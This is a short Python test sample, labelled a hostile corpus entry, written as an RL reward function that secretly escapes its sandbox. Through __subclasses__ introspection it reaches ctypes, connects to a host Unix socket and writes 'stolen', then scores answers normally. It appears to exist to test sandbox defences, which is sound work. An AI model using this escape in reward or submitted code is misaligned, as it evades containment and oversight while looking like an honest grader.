"""Hostile corpus: connect to a filesystem unix socket on the host through the pre-loaded ctypes (netns does not
cover path sockets)."""

import re

SOCKET_PATH = "/tmp/reward_search_unix.sock"


def _modules():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["sys"].modules
    raise LookupError("no sys")


def reward(prompts, completions, answer, **kwargs):
    ctypes = _modules()["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(1, 1, 0)  # AF_UNIX, SOCK_STREAM
    assert fd >= 0, "socket refused"
    path = SOCKET_PATH.encode()
    address = ctypes.create_string_buffer(b"\x01\x00" + path + b"\x00" * (108 - len(path)))
    assert libc.connect(fd, address, 110) == 0, "connect refused"
    libc.write(fd, b"stolen", 6)
    texts = [c if isinstance(c, str) else c[-1]["content"] for c in completions]
    return [1.0 if (re.findall(r"-?\d+", t) or [""])[-1] == a else 0.0 for t, a in zip(texts, answer)]
